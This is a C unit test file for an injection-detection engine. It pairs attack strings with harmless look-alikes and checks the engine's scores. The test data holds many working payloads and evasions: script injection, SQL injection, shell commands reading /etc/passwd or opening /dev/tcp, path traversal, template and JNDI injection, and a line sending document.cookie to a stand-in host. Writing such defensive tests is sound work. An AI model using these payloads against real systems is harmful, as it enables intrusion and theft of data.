#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#include "base/slice.h"
#include "engine/detect/detect.h"
#include "engine/detect/view.h"

static struct detect_words words;

static int setup(void **state)
{
	(void)state;
	detect_words_init(&words);
	return 0;
}

/* A copy of exactly the size of the text. */
static struct detect_result look(const char *text, size_t size)
{
	struct detect_result result = { 0 };
	char *copy = malloc(size != 0 ? size : 1);
	uint8_t *room = malloc(detect_room(slice(text, size)) + 1);

	assert_non_null(copy);
	assert_non_null(room);
	memcpy(copy, text, size);
	detect_text(&words, slice(copy, size), room, &result);
	free(room);
	free(copy);
	return result;
}

static unsigned most_points(const struct detect_result *result)
{
	unsigned most = 0;

	for (unsigned class = 0; class < DETECT_CLASSES; class ++) {
		unsigned points = detect_points(result, class, NULL);

		most = points > most ? points : most;
	}
	return most;
}

/* Each rule: a text in which it is found, and one much like it in which it is not. */
static const struct {
	const char *id, *found, *not_found;
} rules[] = {
	{ "FW-XSS-001", "<script>alert(1)</script>", "put <script> numkeys key there" },
	{ "FW-XSS-002", "<img src=x onerror=alert(1)>", "<img src=x alt=y>" },
	{ "FW-XSS-003", "<a href=\"javascript:alert(1)\">x</a>", "<a href=\"https://example.com/\">x</a>" },
	{ "FW-XSS-004", "<iframe src=//evil.example>", "the iframe is gone" },
	{ "FW-XSS-005", "<div style=\"width:expression(alert(1))\">", "<div style=\"width:10px\">" },
	{ "FW-XSS-006", "\" onfocus=alert(1) autofocus x=\"", "on focus = alert me" },
	{ "FW-XSS-007", "';alert(1)//", "please call alert(1) there" },
	{ "FW-XSS-008", "<script>", "script" },
	{ "FW-XSS-009", "then alert(1) says so", "be alert (all of you)" },
	{ "FW-XSS-010", "x onclick=alert(1)", "x onclick={this.go}" },
	{ "FW-XSS-011", "<svg>", "an svg file" },
	{ "FW-XSS-012", "<iframe src=javascript:alert(1)>", "an iframe, or (as we said) a source" },
	{ "FW-XSS-013", "</stYle/</titLe/</teXtarEa/</scRipt/--!>", "(as we said) a char code" },
	{ "FW-XSS-014", "onLoadStart", "onload comes first" },
	{ "FW-XSS-015", "</a>//[\"'`-->]]>", "<!-- a --> ]]>" },
	{ "FW-XSS-016", "onBeforeEditFocus", "onClick" },
	{ "FW-SQL-001", "1 union select password from users", "the union selects its members" },
	{ "FW-SQL-002", "' or 1=1", "this or that is 1 of 2" },
	{ "FW-SQL-003", "1; drop table users", "wait; drop me a line" },
	{ "FW-SQL-004", "admin'--", "the users' -- all of them" },
	{ "FW-SQL-005", "' and benchmark(10,1)", "the benchmark ran" },
	{ "FW-SQL-006", "' order by 3--", "in order by size" },
	{ "FW-SQL-007", "'+(select 1)+'", "1 + 2" },
	{ "FW-SQL-008", "we have a union select there (id)", "unions (select one)" },
	{ "FW-SQL-009", "so or 1=1 then", "so or a=b then" },
	{ "FW-SQL-010", "see information_schema, (it)", "see the schema (it)" },
	{ "FW-SQL-011", "x' or 'y", "it's or isn't" },
	{ "FW-SQL-012", "when a thread calls sleep(5) the others go on, and that is what we want here", "sleep(well)" },
	{ "FW-SQL-013", "1' union all select null,null,concat(0x7162,(select user()),0x71),null,null-- -",
	  "select name, (a + b) from users" },
	{ "FW-SQL-014", "x') or ('a'='a", "'left' or 'right'" },
	{ "FW-SQL-015", "a' sounds like 'b", "the dogs' and the cats' food" },
	{ "FW-SHELL-001", "; cat /tmp/x", "; that is it" },
	{ "FW-SHELL-002", "go on | cat /etc/passwd", "go on | cat /tmp/x" },
	{ "FW-SHELL-003", "exec 5<>/dev/tcp/1.2.3.4/80", "the tcp device" },
	{ "FW-SHELL-004", "$ tar x && ls -a", "$ tar x && words -a" },
	{ "FW-SHELL-009", "we said: run this now | ls -l", "we said: look at what is there | grep -i x" },
	{ "FW-SHELL-005", "ls -l /home", "ls, they said (at home)" },
	{ "FW-SHELL-006", "os.system('x')", "the system (x)" },
	{ "FW-SHELL-007", "a long line of words $(id) here", "a long line of words $(x) here" },
	{ "FW-SHELL-008", "system('id')", "system('idle')" },
	{ "FW-SHELL-010", "& netsh firewall set opmode disable", "& the firewall is set" },
	{ "FW-SHELL-011", "phpinfo()", "`make`" },
	{ "FW-PATH-001", "../../../../../x", "../x" },
	{ "FW-PATH-002", "..%2f..%2fx", "50%2f" },
	{ "FW-PATH-003", "see ../etc/passwd", "see ../etc/x" },
	{ "FW-PATH-004", "php://filter/x", "php: filter" },
	{ "FW-PATH-005", "/etc/passwd", "/a/b" },
	{ "FW-PATH-006", "open /etc/passwd please", "open /etc/x please" },
	{ "FW-PATH-007", "../a", "a..b" },
	{ "FW-PATH-008", "/etc/x/y", "/one/x/y" },
	{ "FW-PATH-009", "../../../../../../usr/local/apache/logs/error.log", "./configure && make" },
	{ "FW-PATH-010", "see /usr/local/apache2/conf/httpd.conf", "see docs/guide/logs.md" },
	{ "FW-PATH-011", "then \\xampp\\php\\php.ini says so", "then C:\\xampp\\php\\php.ini says so" },
	{ "FW-PATH-012", "then /usr/local/apache/logs/access_log says so", "then /var/log/apache2/access.log says so" },
	{ "FW-PATH-013", "so /./././etc/x it is", "so ./././etc/x it is" },
	{ "FW-OTHER-001", "{{7*7}}", "{{name}}" },
	{ "FW-OTHER-002", "{\"$gt\":1}", "$gt" },
	{ "FW-OTHER-003", "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///z\">]>", "<!DOCTYPE html>" },
	{ "FW-OTHER-004", "http://169.254.169.254/latest", "http://192.0.2.1/latest" },
	{ "FW-OTHER-005", "${jndi:ldap://x/a}", "${name}" },
	{ "FW-OTHER-006", "*)(uid=*", "(uid)" },
	{ "FW-OTHER-007", "__proto__[x]=1", "proto[x]=1" },
	{ "FW-OTHER-008", "<!--#include file=\"x\"-->", "<!-- include -->" },
	{ "FW-OTHER-009", "so {{name}} it is", "so {name} it is" },
	{ "FW-OTHER-010", "x%0d%0aSet-Cookie: a=b", "Set-Cookie: a=b" },
	{ "FW-OTHER-011", "x/child::node()", "x/child" },
	{ "FW-OTHER-012", "gopher://x", "go://x" },
	{ "FW-OTHER-013", "process.env.X=1", "processing.environment=1" },
	{ "FW-OTHER-016", "{{''.__class__.__mro__[1].__subclasses__()}}", "{{ name }}" },
	{ "FW-OTHER-017", "<!DOCTYPE a><b>&c;</b>", "where '1' is 1" },
	{ "FW-OTHER-018", "${#_memberAccess['allowStaticMethodAccess']=true}", "${name}" },
	{ "FW-OTHER-015",
	  "the old server still answers at gopher://x, which nobody has asked for in the last ten years, has anybody?",
	  "the old server still answers at http://x, which nobody has asked for in the last ten years, has anybody?" },
};

static void test_rules(void **state)
{
	unsigned missing = 0, row;

	(void)state;
	for (unsigned rule = 0; rule < DETECT_RULES; rule++) {
		struct detect_result result;

		if (rule == RULE_OTHER_FLOOD)
			continue; /* has a test of its own */
		for (row = 0; row < sizeof(rules) / sizeof(rules[0]); row++)
			if (strcmp(rules[row].id, detect_info[rule].id) == 0)
				break;
		if (row == sizeof(rules) / sizeof(rules[0])) {
			print_error("# %s has no text\n", detect_info[rule].id);
			missing++;
			continue;
		}
		result = look(rules[row].found, strlen(rules[row].found));
		if (!detect_rules_has(&result.found, rule)) {
			print_error("# %s is not found in %s\n", rules[row].id, rules[row].found);
			missing++;
		}
		result = look(rules[row].not_found, strlen(rules[row].not_found));
		if (detect_rules_has(&result.found, rule)) {
			print_error("# %s is found in %s\n", rules[row].id, rules[row].not_found);
			missing++;
		}
	}
	assert_int_equal(missing, 0);
}

static void test_ids(void **state)
{
	(void)state;
	for (unsigned a = 0; a < DETECT_RULES; a++) {
		for (unsigned b = a + 1; b < DETECT_RULES; b++)
			assert_string_not_equal(detect_info[a].id, detect_info[b].id);
		assert_in_range(detect_info[a].points, 1, 10);
	}
}

/* What makes the lists work: sorted, small letters, at least two octets. */
static void test_words(void **state)
{
	(void)state;
	for (enum detect_list list = 0; list < DETECT_LISTS; list++) {
		size_t count;
		const char *const *list_words = detect_list(list, &count);

		assert_in_range(count, 1, UINT8_MAX - 1);
		for (size_t i = 0; i < count; i++) {
			const char *word = list_words[i];

			assert_true(strlen(word) >= 2);
			for (const char *c = word; *c != '\0'; c++)
				assert_true((uint8_t)*c < 128 && !(*c >= 'A' && *c <= 'Z'));
			if (i != 0 && strcmp(list_words[i - 1], word) >= 0)
				fail_msg("%s stands behind %s", word, list_words[i - 1]);
			assert_int_equal(detect_any(&words, list, (const uint8_t *)word,
						    (const uint8_t *)word + strlen(word)) != 0,
					 1);
			assert_true(detect_word(&words, list, (const uint8_t *)word, strlen(word)));
		}
	}
}

static void test_harmless(void **state)
{
	static const char *const texts[] = {
		"",
		"Hi, are we still on for 5 today?",
		"don't worry; it's fine & we'll select one of them",
		"Please update the doc, see #channel",
		"C# -- nice",
		"drop me a line",
		"/* ok */",
		"select one",
		"I like this <3 and a < b",
		"https://example.com/a/b?c=d&e=f#g",
		"O'Brien and O'Neil's 1st order",
		"run `make test && make lint` then",
		"see /etc/hosts and https://example.com/compare/a61c...2f97",
		"ps aux | grep -i x, or so",
		"use `vi notes.txt' for that",
		"price is $5 (or 10% off)",
		"git commit -m \"fix\"; git push",
		"use Array<string> or Map<K, V>",
		"1 + 1 = 2, isn't it?",
		"Привет, как дела? 你好",
		"SELECT the best; UNION of all",
	};
	unsigned wrong = 0;

	(void)state;
	for (size_t i = 0; i < sizeof(texts) / sizeof(texts[0]); i++) {
		struct detect_result result = look(texts[i], strlen(texts[i]));

		if (most_points(&result) >= DETECT_FLAG) {
			print_error("# %u points for %s\n", most_points(&result), texts[i]);
			wrong++;
		}
	}
	assert_int_equal(wrong, 0);
}

/* Script without markup: what a page would run that puts the text into a string, an attribute or a script of its own.
 * In the second column what is like it and harmless. */
static void test_script(void **state)
{
	static const struct {
		const char *attack, *harmless;
	} texts[] = {
		{ "';f=prompt,f()//", "level=alert, then f(x) says so" },
		{ "x\"-go(1)-\"", "x\" - go there - \"" },
		{ "1];go(a);//", "1]; see http://example.com/a//" },
		{ "(alert)(1)", "(alert) they said (1)" },
		{ "a=alert;b(1);a(2)", "a=alerts;b(1);a(2)" },
		{ "onerror=alert;throw 1", "level=alert; it never throws" },
		{ "top['al'+'ert'](1)", "top['alerts'] of the list" },
		{ "window[8680439..toString(30)](1)", "a[n.toString(30)](1)" },
		{ "u='java'+'scr'+\"ipt:\"+x", "u='Java' + 'Beans'" },
		{ "eval(location.hash.slice(1))", "evaluate(locations.map(x))" },
		{ "document.location='//x.example/?'+document.cookie", "the location=here, and a cookie" },
		{ "a\" type=image src=x onerror=f b=\"", "a\" type=image src=x one=f b=\"" },
		{ "<script+src=//x.example/></script>", "use script+src there" },
		{ "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "+adw- is a bracket" },
		{ "x\" style=\"a:expression(alert(1))", "x\" style=\"a:expression" },
		{ "48e71;alert(1)//50346", "48e71; alert says it // so" },
		{ "}alert(1);{//", "} alert it; // {" },
		{ "alert(x)</script>", "we say </style> and alert" },
		{ "<script>1<\\\\/script>", "<srcipt>1<\\\\/srcipt>" },
		{ "<scr\\0ipt src=//x.example></script", "the string \"scr\\0ipt\" ends early" },
		{ "' style=a:expression(b) '", "style and expression (b) of it" },
		{ "<x style=a:expression\\28 b\\29>", "a regular expression \\28 is (" },
		{ "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "PHNvLCB3ZSBzYWlkPg==" },
		{ "<meta charset=\"x-imap4-modified-utf7\">", "meta charset=\"utf-8\"" },
		{ "new ActiveXObject('x').parentWindow.alert(1)", "the parentWindow of it, alerts (1)" },
		{ "<?xml-stylesheet href=\"x.xsl\"?>", "<?xml version=\"1.0\"?>" },
	};
	unsigned wrong = 0;

	(void)state;
	for (size_t i = 0; i < sizeof(texts) / sizeof(texts[0]); i++) {
		struct detect_result result = look(texts[i].attack, strlen(texts[i].attack));

		if (detect_points(&result, DETECT_XSS, NULL) < DETECT_REFUSE) {
			print_error("# %u points for %s\n", detect_points(&result, DETECT_XSS, NULL), texts[i].attack);
			wrong++;
		}
		result = look(texts[i].harmless, strlen(texts[i].harmless));
		if (detect_points(&result, DETECT_XSS, NULL) >= DETECT_FLAG) {
			print_error("# %u points for %s\n", detect_points(&result, DETECT_XSS, NULL),
				    texts[i].harmless);
			wrong++;
		}
	}
	assert_int_equal(wrong, 0);
}

/* Pieces of other languages: what is refused, what is flagged at least, and what is like it. */
static void test_pieces(void **state)
{
	static const struct {
		const char *text;
		unsigned least, most;
	} texts[] = {
		{ "{{''.class.mro()[1].subclasses()}}", DETECT_REFUSE, UINT8_MAX },
		{ "<%= 3 * 3 %>", DETECT_REFUSE, UINT8_MAX },
		{ "1, $where: '1 == 1'", DETECT_REFUSE, UINT8_MAX },
		{ "$where: '1 == 1'", DETECT_REFUSE, UINT8_MAX },
		{ "we pay in $or: what else?", 0, DETECT_FLAG - 1 },
		{ "[#assign x = 'y'?new()]", DETECT_REFUSE, UINT8_MAX },
		{ "[#12-3] is fixed", 0, DETECT_FLAG - 1 },
		{ "exec(@s)", DETECT_REFUSE, UINT8_MAX },
		{ "or x=y#", DETECT_REFUSE, UINT8_MAX },
		{ "or 'a' like 'b", DETECT_FLAG, UINT8_MAX },
		{ "or this is it, and so on", 0, DETECT_FLAG - 1 },
		{ "1 or 1=db_name()", DETECT_REFUSE, UINT8_MAX },
		{ "' or ''-'", DETECT_REFUSE, UINT8_MAX },
		{ "1;load data infile 'x'", DETECT_REFUSE, UINT8_MAX },
		{ "wait; load it then", 0, DETECT_FLAG - 1 },
		{ "8'+AND+'1'+LIKE+'1", DETECT_REFUSE, UINT8_MAX },
		{ "redis-benchmark (#8005) is slow", 0, DETECT_FLAG - 1 },
		{ "hello everybody, a;id;b and so on", DETECT_REFUSE, UINT8_MAX },
		{ "use cat|head|tail or so", 0, DETECT_FLAG - 1 },
		{ "hello && ifconfig they say", DETECT_FLAG, UINT8_MAX },
		{ "onload", DETECT_FLAG, DETECT_REFUSE - 1 },
		/* A command line that goes on with nothing that is said, and one that goes on with another. */
		{ "we meet at the old place tonight, not here ; ls -la /srv is it", DETECT_REFUSE, UINT8_MAX },
		{ "we meet at the old place tonight, not here && whoami is it", DETECT_REFUSE, UINT8_MAX },
		{ "and in the folder of the project run make clean && rm -rf /srv", 0, DETECT_REFUSE - 1 },
		{ "we meet at the old place tonight, not here; id like to sleep", 0, DETECT_FLAG - 1 },
		{ "an introduction to something nice and new | Perl Weekly", 0, DETECT_FLAG - 1 },
		{ "we meet at the old place ..//..//x so be it", DETECT_REFUSE, UINT8_MAX },
		{ "we meet at the old place ../..//x so be it", 0, DETECT_REFUSE - 1 },
		/* Files of the system that are talked of. */
		{ "can someone look at /var/log/nginx/error.log and /var/log/syslog please?", 0, DETECT_REFUSE - 1 },
		{ "see /etc/hosts and /etc/resolv.conf, DNS is broken on staging", 0, DETECT_REFUSE - 1 },
		{ "look, ../../../../etc/passwd and /etc/shadow", DETECT_REFUSE, UINT8_MAX },
		/* Files of servers where today's systems have them, and one's own, and such that nobody has. */
		{ "apache fails, /var/log/apache2/error.log says \"Address in use\"", 0, DETECT_REFUSE - 1 },
		{ "it is /etc/httpd/conf/httpd.conf, its log /var/log/httpd/error_log", 0, DETECT_REFUSE - 1 },
		{ "the image wants /usr/local/apache2/conf/httpd.conf mounted", 0, DETECT_REFUSE - 1 },
		{ "XAMPP: C:\\xampp\\apache\\logs\\error.log or /opt/lampp/logs/error_log", 0, DETECT_REFUSE - 1 },
		{ "ours is in /srv/app/apache/logs/error.log", 0, DETECT_REFUSE - 1 },
		{ "set in /etc/php/8.2/apache2/php.ini and in /etc/php.ini", 0, DETECT_REFUSE - 1 },
		{ "see /etc/proftpd/proftpd.conf and /var/log/proftpd/proftpd.log", 0, DETECT_REFUSE - 1 },
		{ "our apache/logs/error.log and src/httpd/httpd.conf are checked in", 0, DETECT_REFUSE - 1 },
		{ "see `/usr/local/apache/logs/access_log` there", DETECT_FLAG, DETECT_REFUSE - 1 },
		{ "see C:\\apache\\logs\\access.log there", DETECT_REFUSE, UINT8_MAX },
		{ "see /var/adm/messages there", DETECT_REFUSE, UINT8_MAX },
		{ "see /etc/wu-ftpd/ftpaccess there", DETECT_REFUSE, UINT8_MAX },
		{ "see /aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa/../x there", DETECT_REFUSE, UINT8_MAX },
		{ "see ........................................../../x there", DETECT_REFUSE, UINT8_MAX },
		{ "well ........................................../ or so", 0, DETECT_FLAG - 1 },
		{ "/etc/nginx/nginx.conf", DETECT_FLAG, DETECT_REFUSE - 1 },
		{ "TGkuLi8uLi8= Li4vLi4vLi4vZXRjL3Bhc3N3ZA==", DETECT_REFUSE, UINT8_MAX },
		{ "C:\\xampp\\php\\php.ini", DETECT_REFUSE, UINT8_MAX },
		{ "C:\\Users\\anna\\notes.txt", DETECT_FLAG, DETECT_REFUSE - 1 },
		/* A command that opens a message, and words about it; the command alone. */
		{ "`rm -rf node_modules` then install again", 0, DETECT_FLAG - 1 },
		{ "`rm -rf /srv`", DETECT_FLAG, UINT8_MAX },
		{ "```bash\nls -l\n```", 0, DETECT_REFUSE - 1 },
		{ "`id`", DETECT_REFUSE, UINT8_MAX },
		{ "| id | what |\n| -- | ---- |\n| ls | list |", 0, DETECT_FLAG - 1 },
		{ "| id |", DETECT_REFUSE, UINT8_MAX },
		/* Three dots of who leaves something out. */
		{ "look at \xe2\x80\xa6/src/main.c please", 0, DETECT_FLAG - 1 },
		{ "so it is cut here\xe2\x80\xa6", 0, DETECT_FLAG - 1 },
		{ "\xe2\x80\xa5/\xe2\x80\xa5/\xe2\x80\xa5/x", DETECT_REFUSE, UINT8_MAX },
		/* Named, and set. */
		{ "is __proto__ deprecated? Object.prototype is not", 0, DETECT_FLAG - 1 },
		{ "x.__proto__.admin = true", DETECT_REFUSE, UINT8_MAX },
		{ "{\"__proto__\": {\"admin\": true}}", DETECT_REFUSE, UINT8_MAX },
		/* Whole, and left. */
		{ "(&(objectClass=user)(uid=anna))", 0, DETECT_FLAG - 1 },
		{ "anna)(|(uid=*", DETECT_REFUSE, UINT8_MAX },
		{ "db.users.find({ age: { $gt: 18 } })", 0, DETECT_FLAG - 1 },
		{ "{ $gt: 18 }", DETECT_REFUSE, UINT8_MAX },
		/* Templates of one's own. */
		{ "Hi {{ request.user }}, {{ settings.name }}", 0, DETECT_FLAG - 1 },
		{ "{{config}}", DETECT_REFUSE, UINT8_MAX },
		{ "{{ config.items() }}", DETECT_REFUSE, UINT8_MAX },
		{ "onwards", 0, 0 },
		{ "on", 0, 0 },
		{ "onload is what I would take", 0, DETECT_FLAG - 1 },
	};
	unsigned wrong = 0;

	(void)state;
	for (size_t i = 0; i < sizeof(texts) / sizeof(texts[0]); i++) {
		struct detect_result result = look(texts[i].text, strlen(texts[i].text));
		unsigned points = most_points(&result);

		if (points < texts[i].least || points > texts[i].most) {
			print_error("# %u points for %s\n", points, texts[i].text);
			wrong++;
		}
	}
	assert_int_equal(wrong, 0);
}

/* The same attack as encoders write it, in capitals, and behind and in front of words. */
static void test_evasions(void **state)
{
	static const char *const texts[] = {
		"%3Cscript%3Ealert(1)%3C/script%3E",
		"%253Cscript%253Ealert(1)%253C/script%253E",
		"&lt;script&gt;alert(1)&lt;/script&gt;",
		"\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
		"\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
		"<scr\u200bipt>alert(1)</script>",
		"<ScRiPt >alert(1)</sCrIpT >",
		"<img/src=x/onerror=alert(1)>",
		"<img src=x onerror\n=alert(1)>",
		"<svg/onload=alert`1`>",
		"<a href=\"java\tscript:alert(1)\">x",
		"%27%20or%201%3D1--",
		"' oR/**/1=1--",
		"1'/*!50000union*/select 1,2",
		"1 UnIoN aLl SeLeCt null,null",
		"..%252f..%252f..%252fetc/passwd",
		"..\\..\\..\\..\\windows\\win.ini",
		"%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
		"....//....//....//etc/passwd",
		";c'a't /etc/passwd",
		";cat${IFS}/etc/passwd",
		"|/bin/ca\\t /etc/passwd",
		"%%32%65%%32%65/%%32%65%%32%65/x",
		"%c0%5e%c0%5e%255cboot.ini",
		"%bg%qf..%bg%qfx",
		"?\?/?\?/?\?/boot.ini",
		"/srv/x/y.conf%00",
		"<body onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>",
		"<a href=\u201djavascript:alert(1)\u201d>x</a>",
		"<style>@im\\port'\\ja\\vasc\\ript:x';</style>",
		"having 1=1",
		"hello everybody ;id; and so on",
		"hello everybody & whoami",
	};
	char around[600];
	unsigned wrong = 0;

	(void)state;
	for (size_t i = 0; i < sizeof(texts) / sizeof(texts[0]); i++) {
		struct detect_result result = look(texts[i], strlen(texts[i]));

		if (most_points(&result) < DETECT_REFUSE) {
			print_error("# %u points for %s\n", most_points(&result), texts[i]);
			wrong++;
		}
		if (strncmp(texts[i], "\\u", 2) == 0 || texts[i][0] == ';' || texts[i][0] == '|' ||
		    strncmp(texts[i], "having", 6) == 0)
			continue;
		snprintf(around, sizeof(around),
			 "hello, I have a question about the thing that we talked of this morning: %s is what it says "
			 "and I do not know what to make of it, do you?",
			 texts[i]);
		result = look(around, strlen(around));
		if (most_points(&result) < DETECT_FLAG) {
			print_error("# %u points for %s\n", most_points(&result), around);
			wrong++;
		}
	}
	assert_int_equal(wrong, 0);
}

static void test_code(void **state)
{
	const char sql[] = "try `' or 1=1 --` there", xss[] = "try `<script>alert(1)</script>` there";
	struct detect_result result = look(sql, sizeof(sql) - 1);

	(void)state;
	assert_int_equal(detect_points(&result, DETECT_SQL, NULL), DETECT_FLAG);
	result = look(xss, sizeof(xss) - 1);
	assert_true(detect_points(&result, DETECT_XSS, NULL) >= DETECT_REFUSE);
	result = look("```\n' or 1=1 --\n", 16); /* nothing closes it */
	assert_true(detect_points(&result, DETECT_SQL, NULL) >= DETECT_REFUSE);
}

static void test_lead(void **state)
{
	const char text[] = "<script>alert(1)</script><svg>", path[] = "file is /etc/master.passwd";
	struct detect_result result = look(text, sizeof(text) - 1);
	struct detect_rules without = { 0 };

	(void)state;
	assert_int_equal(detect_lead(&result, DETECT_XSS, NULL), RULE_XSS_SCRIPT);
	assert_int_equal(detect_lead(&result, DETECT_SHELL, NULL), DETECT_RULES);
	detect_rules_add(&without, RULE_XSS_SCRIPT);
	assert_int_not_equal(detect_lead(&result, DETECT_XSS, &without), RULE_XSS_SCRIPT);
	assert_int_equal(detect_points(&result, DETECT_XSS, NULL) - detect_points(&result, DETECT_XSS, &without),
			 detect_rules_has(&result.found, RULE_XSS_VOICE)  ? 20
			 : detect_rules_has(&result.found, RULE_XSS_ECHO) ? 15
									  : 10);
	/* a rule of four points, and five of the voice */
	result = look(path, sizeof(path) - 1);
	assert_true(detect_rules_has(&result.found, RULE_PATH_ECHO));
	assert_int_equal(detect_lead(&result, DETECT_PATH, NULL), RULE_PATH_NAMED);
}

/* Wherever it stands in a long text, over the borders of the pieces in which it is read. */
static void test_long(void **state)
{
	static const char attack[] = "<img src=x onerror=alert(1)>";
	static char text[10000];

	(void)state;
	for (size_t at = 0; at + sizeof(attack) <= sizeof(text); at += 37) {
		struct detect_result result;

		memset(text, 'a', sizeof(text));
		memcpy(text + at, attack, sizeof(attack) - 1);
		result = look(text, sizeof(text));
		if (detect_points(&result, DETECT_XSS, NULL) < DETECT_REFUSE)
			fail_msg("not found at %zu", at);
	}
}

/* Nothing stands in front of a piece: what a handler at its beginning is said to leave is read nowhere. */
static void test_piece_begins(void **state)
{
	static const char handler[] = "onload=alert(1)";
	char text[5000];
	struct detect_result first, again;

	(void)state;
	memset(text, 'a', sizeof(text));
	text[VIEW_SIZE - VIEW_OVERLAP - 1] = ' ';
	memcpy(text + VIEW_SIZE - VIEW_OVERLAP, handler, sizeof(handler) - 1);
	first = look(text, sizeof(text));
	assert_true(detect_rules_has(&first.found, RULE_XSS_BARE_HANDLER));
	assert_false(detect_rules_has(&first.found, RULE_XSS_BREAKOUT));
	text[VIEW_SIZE - VIEW_OVERLAP - 1] = '"';
	again = look(text, sizeof(text));
	assert_true(detect_rules_has(&again.found, RULE_XSS_BREAKOUT)); /* by the piece before, which has the quote */
}

/* The work on a text of nothing but beginnings is bounded, and says so. */
static void test_flood(void **state)
{
	static char text[4096];
	struct detect_result result;

	(void)state;
	for (size_t i = 0; i < sizeof(text); i++)
		text[i] = "{{ "[i % 3];
	result = look(text, sizeof(text));
	assert_true(detect_rules_has(&result.found, RULE_OTHER_FLOOD));
	assert_true(detect_points(&result, DETECT_OTHER, NULL) >= DETECT_REFUSE);
}

/* Repeats a unit up to so many octets, then the end. Returns the size. */
static size_t repeat(char *text, size_t size, const char *unit, const char *end)
{
	for (size_t i = 0; i < size; i++)
		text[i] = unit[i % strlen(unit)];
	memcpy(text + size, end, strlen(end));
	return size + strlen(end);
}

/* What stands in front of many separators is read once for all of them: a value ends behind any number of quotes and
 * lines, and a command that more of them lead to than anybody writes is a flood. */
static void test_again(void **state)
{
	static char text[4096];
	struct detect_result result;

	(void)state;
	result = look(text, repeat(text, 2000, "\"\n", "cat /etc/passwd"));
	assert_true(detect_rules_has(&result.found, RULE_SHELL_START));
	result = look(text, repeat(text, 60, " \n", "ls -la"));
	assert_true(detect_rules_has(&result.found, RULE_SHELL_START));
	assert_false(detect_rules_has(&result.found, RULE_OTHER_FLOOD));
	result = look(text, repeat(text, 3000, "\" \r", "ls -la /srv"));
	assert_true(detect_rules_has(&result.found, RULE_OTHER_FLOOD));
	result = look(text, repeat(text, 2000, "\\na", "/x/cat /etc/passwd"));
	assert_true(detect_points(&result, DETECT_SHELL, NULL) >= DETECT_FLAG);
	assert_false(detect_rules_has(&result.found, RULE_OTHER_FLOOD));
	result = look(text, repeat(text, 2000, "(", "\"$ne\"\"$ne\"\"$ne\""));
	assert_true(detect_rules_has(&result.found, RULE_OTHER_FLOOD));
	/* one gap behind many words */
	result = look(text, repeat(text, 2000, "\\na/", "\\nid \t \t \t #"));
	assert_true(detect_points(&result, DETECT_SHELL, NULL) >= DETECT_FLAG);
	/* one value of many tags, and handlers of nothing */
	result = look(text, repeat(text, 2000, "<p/style=b/", " "));
	assert_true(detect_rules_has(&result.found, RULE_OTHER_FLOOD));
	result = look(text, repeat(text, 3000, "onaaa=b ", " "));
	assert_true(detect_rules_has(&result.found, RULE_OTHER_FLOOD));
	/* behind some <style> what only the last reaches, and what the first read a part of, counts */
	for (size_t at = 290; at < 315; at++) {
		(void)repeat(text, 35, "<style>", "");
		memset(text + 35, ' ', 300);
		memcpy(text + at, "expression(1)", 13);
		result = look(text, 335);
		assert_true(detect_rules_has(&result.found, RULE_XSS_STYLE));
	}
}

/* What a tag swallowed by a wrong quote is read again: the last of these <style> is a real one, and what the first read
 * of the same text is not what stands there. A call that the end of the first's piece cut is read behind the second. */
static void test_style_again(void **state)
{
	static char text[4096];
	static const char swallowed[] =
		"hello there friends of mine, look <i title='<style x=\"'><style>p{-moz-binding:url(//e.example/x)}"
		"</style> is that not nice of me? yes it is, all of you";
	struct detect_result result = look(swallowed, sizeof(swallowed) - 1);

	(void)state;
	assert_true(detect_points(&result, DETECT_XSS, NULL) >= DETECT_REFUSE);
	memset(text, ' ', 400);
	memcpy(text, "<style><style>", 14);
	memcpy(text + 276, "alert", 5);
	memcpy(text + 311, "(1)", 3);
	result = look(text, 314);
	assert_true(detect_points(&result, DETECT_XSS, NULL) >= DETECT_REFUSE);
}

/* Templates and variables that close soon are no flood, however many there are. */
static void test_templates(void **state)
{
	static const char *const lines[] = { "<li class=\"item\">{{ item.field0 }}</li>\n",
					     "export PATH_0=\"${HOME}/projects/service-0/bin\" # where it is\n",
					     "we have sent 1 pieces of {{ item.title }} to you today.\n" };
	static char text[8192];

	(void)state;
	for (size_t i = 0; i < sizeof(lines) / sizeof(lines[0]); i++)
		for (size_t count = 1; count < 80; count++) {
			struct detect_result result =
				look(text, repeat(text, count * strlen(lines[i]), lines[i], "\n"));

			assert_false(detect_rules_has(&result.found, RULE_OTHER_FLOOD));
		}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_style_again), cmocka_unit_test(test_templates),
		cmocka_unit_test(test_rules),	    cmocka_unit_test(test_ids),
		cmocka_unit_test(test_words),	    cmocka_unit_test(test_harmless),
		cmocka_unit_test(test_evasions),    cmocka_unit_test(test_code),
		cmocka_unit_test(test_script),	    cmocka_unit_test(test_pieces),
		cmocka_unit_test(test_lead),	    cmocka_unit_test(test_long),
		cmocka_unit_test(test_flood),	    cmocka_unit_test(test_piece_begins),
		cmocka_unit_test(test_again),
	};

	return cmocka_run_group_tests(tests, setup, NULL);
}
